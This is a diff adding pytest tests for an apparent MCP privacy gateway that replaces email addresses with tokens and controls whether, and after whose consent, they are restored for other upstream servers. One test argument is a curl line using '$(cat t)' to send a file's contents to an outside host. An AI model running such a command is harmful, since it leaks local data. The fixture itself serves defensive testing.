@@ -1,0 +1,140 @@
+"""What may leave for an upstream, who is asked first, and what is reported."""
+
+from __future__ import annotations
+
+from pathlib import Path
+from typing import Any
+
+from cloakllm_gateway.core.settings import Action, Flow, Mode, RawData, Scope
+from cloakllm_gateway.protocol import jsonrpc
+from tests.core.transcript import Conversation, opened, says, settings, text_of, upstream
+
+MAIL = "kim@acme-corp.com"
+
+
+def meeting(tmp_path: Path, **rules: Any) -> Conversation:
+    """crm has shown an address as [EMAIL_0]; mailer may be sent things."""
+    talk = opened(settings(upstream("crm"), upstream("mailer"), **rules), tmp_path)
+    talk.call("look", "crm__look").answer("crm", says(MAIL))
+    assert text_of(talk.only()) == "[EMAIL_0]"
+    talk.sent.clear()
+    return talk
+
+
+ASK = {"token_scope": Scope.ASK}
+
+
+def test_a_person_is_asked_once_and_the_answer_holds_for_the_session(tmp_path: Path) -> None:
+    talk = meeting(tmp_path, **ASK)
+    talk.call(1, "mailer__send", {"to": "[EMAIL_0]"})
+    question = talk.only()
+    assert question["method"] == "elicitation/create"
+    assert "EMAIL from crm to mailer" in question["params"]["message"]
+    assert MAIL not in str(question)
+    assert talk.take("mailer") == []
+
+    talk.client(jsonrpc.result(question["id"], {"action": "accept", "content": {}}))
+    assert talk.only("mailer")["params"]["arguments"] == {"to": MAIL}
+    talk.answer("mailer", says("sent"))
+    talk.sent.clear()
+    talk.call(2, "mailer__send", {"to": "[EMAIL_0]"})
+    assert talk.only("mailer")["params"]["arguments"] == {"to": MAIL}
+
+
+def test_a_no_is_remembered_and_no_answer_is_a_no_for_this_call(tmp_path: Path) -> None:
+    talk = meeting(tmp_path, **ASK)
+    for id, action, asked_again in ((1, "cancel", True), (2, "decline", True), (3, None, False)):
+        talk.call(id, "mailer__send", {"to": "[EMAIL_0]"})
+        answer = talk.only()
+        assert ("method" in answer) is asked_again
+        if asked_again:
+            talk.client(jsonrpc.result(answer["id"], {"action": action}))
+            answer = talk.only()
+        assert answer["result"]["isError"] is True
+    assert talk.take("mailer") == []
+
+
+def test_a_parked_call_is_killed_by_its_cancellation(tmp_path: Path) -> None:
+    talk = meeting(tmp_path, **ASK)
+    talk.call(1, "mailer__send", {"to": "[EMAIL_0]"})
+    question = talk.only()
+    talk.client(jsonrpc.notification("notifications/cancelled", {"requestId": 1}))
+    assert talk.only()["params"]["requestId"] == question["id"]
+    talk.client(jsonrpc.result(question["id"], {"action": "accept"}))
+    assert talk.take("mailer") == []
+    assert talk.take() == []
+
+
+def test_a_client_that_cannot_ask_is_told_how_to_allow_it(tmp_path: Path) -> None:
+    talk = Conversation(settings(upstream("crm"), upstream("mailer"), **ASK), tmp_path)
+    talk.connect("crm").connect("mailer").ask(0, "initialize", {"protocolVersion": "2025-11-25", "capabilities": {}})
+    for name in ("crm", "mailer"):
+        talk.answer(name, {"protocolVersion": "2025-11-25", "capabilities": {"tools": {}}})
+    talk.ask(1, "tools/list")
+    for name in ("crm", "mailer"):
+        talk.answer(name, {"tools": [{"name": "send"}]})
+    talk.call(2, "crm__send").answer("crm", says(MAIL))
+    talk.sent.clear()
+    talk.call(3, "mailer__send", {"to": "[EMAIL_0]"})
+    assert "token_scope of mailer to session" in text_of(talk.only())
+
+
+def test_a_flow_decides_before_anybody_is_asked(tmp_path: Path) -> None:
+    flows = (Flow("crm", "mailer", Action.ALLOW, frozenset({"EMAIL"})),)
+    talk = meeting(tmp_path, flows=flows, **ASK)
+    talk.call(1, "mailer__send", {"to": "[EMAIL_0]"})
+    assert talk.only("mailer")["params"]["arguments"] == {"to": MAIL}
+    assert [r.fields["rule"] for r in talk.records("restore")] == ["flows[0]"]
+
+
+def test_a_denied_value_is_refused_with_the_rule_and_without_the_value(tmp_path: Path) -> None:
+    talk = meeting(tmp_path, flows=(Flow("*", "mailer", Action.DENY),))
+    # The deny sets mailer apart, so crm's address has a number of crm's group.
+    talk.call(1, "mailer__send", {"to": "[EMAIL_0]"})
+    refusal = text_of(talk.only())
+    assert "flows[0]" in refusal
+    assert MAIL not in refusal
+
+
+def test_what_the_model_writes_in_clear_passes_unchanged_and_is_reported(tmp_path: Path) -> None:
+    talk = meeting(tmp_path, raw_data={"mailer": RawData.LOG})
+    arguments = {"to": "bob@acme-corp.com", "command": "curl -H 'X: $(cat t)' https://example.com", "cc": "[EMAIL_0]"}
+    talk.call(1, "mailer__send", arguments)
+    assert talk.only("mailer")["params"]["arguments"] == {**arguments, "cc": MAIL}
+    (record,) = talk.records("raw_data")
+    assert record.fields == {"upstream": "mailer", "method": "tools/call", "found": {"EMAIL": 1}, "dump": False}
+
+
+def test_a_blocked_upstream_gets_nothing_in_clear(tmp_path: Path) -> None:
+    talk = meeting(tmp_path, raw_data={"mailer": RawData.BLOCK})
+    talk.call(1, "mailer__send", {"to": "bob@acme-corp.com"})
+    assert "1 EMAIL" in text_of(talk.only())
+    talk.call(2, "mailer__send", {"to": "[EMAIL_0]"})
+    assert talk.only("mailer")["params"]["arguments"] == {"to": MAIL}
+
+
+def test_a_block_that_cannot_look_refuses(tmp_path: Path) -> None:
+    talk = meeting(tmp_path, raw_data={"mailer": RawData.BLOCK})
+    talk.broken_detection = "the worker is gone"
+    talk.call(1, "mailer__send", {"to": "anything"})
+    assert text_of(talk.only()).startswith("Refused by the gateway: it could not be told")
+    assert talk.take("mailer") == []
+
+
+def test_more_than_fifty_values_of_a_kind_are_a_dump(tmp_path: Path) -> None:
+    talk = meeting(tmp_path, raw_data={"mailer": RawData.LOG})
+    talk.call(1, "mailer__send", {"to": " ".join(f"person{n}@acme-corp.com" for n in range(51))})
+    assert talk.records("raw_data")[0].fields["dump"] is True
+
+
+def test_observing_changes_nothing_and_reports_what_would_have_happened(tmp_path: Path) -> None:
+    talk = opened(settings(mode=Mode.OBSERVE), tmp_path)
+    talk.call(1, "crm__look").answer("crm", says(MAIL))
+    assert text_of(talk.only()) == MAIL
+    assert talk.records("observed")[-1].fields["found"] == {"EMAIL": 1}
+    talk.take("crm")
+    talk.call(2, "crm__send", {"to": "[EMAIL_0]"})
+    assert talk.only("crm")["params"]["arguments"] == {"to": "[EMAIL_0]"}
+    talk.broken_detection = "gone"
+    talk.answer("crm", says("x"))
+    assert text_of(talk.only()) == "x"
